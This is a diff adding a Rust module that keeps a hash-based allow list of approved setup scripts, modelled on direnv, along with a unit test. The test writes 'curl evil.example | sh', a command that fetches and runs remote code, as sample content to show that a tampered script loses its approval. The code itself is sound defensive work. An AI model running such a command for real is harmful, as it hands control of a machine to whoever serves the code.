@@ -0,0 +1,79 @@
+use anyhow::{Context, Result};
+use sha2::{Digest, Sha256};
+use std::fs;
+use std::path::{Path, PathBuf};
+
+/// Setup scripts the user has approved to run. Like direnv's allow list, each
+/// approval is a file named after the SHA-256 of the script content, so editing
+/// a script (or checking out a branch that changes it) requires a new approval.
+pub struct TrustStore {
+    dir: PathBuf,
+}
+
+impl TrustStore {
+    /// The store under `$XDG_DATA_HOME/workbloom/allow`, defaulting to
+    /// `~/.local/share/workbloom/allow`.
+    pub fn open() -> Self {
+        let data_home = std::env::var_os("XDG_DATA_HOME")
+            .filter(|dir| !dir.is_empty())
+            .map(PathBuf::from)
+            .unwrap_or_else(|| PathBuf::from(shellexpand::tilde("~/.local/share").into_owned()));
+        Self::at(data_home.join("workbloom").join("allow"))
+    }
+
+    pub fn at(dir: impl Into<PathBuf>) -> Self {
+        Self { dir: dir.into() }
+    }
+
+    /// Whether the current content of `script` has been allowed.
+    pub fn is_trusted(&self, script: &Path) -> Result<bool> {
+        let hash = script_hash(script)?;
+        Ok(self.dir.join(hash).is_file())
+    }
+
+    /// Allows the current content of `script` and returns its hash.
+    pub fn allow(&self, script: &Path) -> Result<String> {
+        let hash = script_hash(script)?;
+        fs::create_dir_all(&self.dir)
+            .with_context(|| format!("Failed to create {}", self.dir.display()))?;
+
+        // The file's content only tells a human where the script came from
+        let entry = self.dir.join(&hash);
+        fs::write(&entry, format!("{}\n", script.display()))
+            .with_context(|| format!("Failed to write {}", entry.display()))?;
+        Ok(hash)
+    }
+}
+
+/// Hex-encoded SHA-256 of the script's content.
+pub fn script_hash(script: &Path) -> Result<String> {
+    let content =
+        fs::read(script).with_context(|| format!("Failed to read {}", script.display()))?;
+    Ok(Sha256::digest(&content)
+        .iter()
+        .map(|byte| format!("{byte:02x}"))
+        .collect())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tempfile::TempDir;
+
+    #[test]
+    fn changed_script_needs_new_approval() -> Result<()> {
+        let temp_dir = TempDir::new()?;
+        let store = TrustStore::at(temp_dir.path().join("allow"));
+        let script = temp_dir.path().join(".workbloom-setup.sh");
+
+        fs::write(&script, "echo hello\n")?;
+        assert!(!store.is_trusted(&script)?);
+
+        store.allow(&script)?;
+        assert!(store.is_trusted(&script)?);
+
+        fs::write(&script, "curl evil.example | sh\n")?;
+        assert!(!store.is_trusted(&script)?);
+        Ok(())
+    }
+}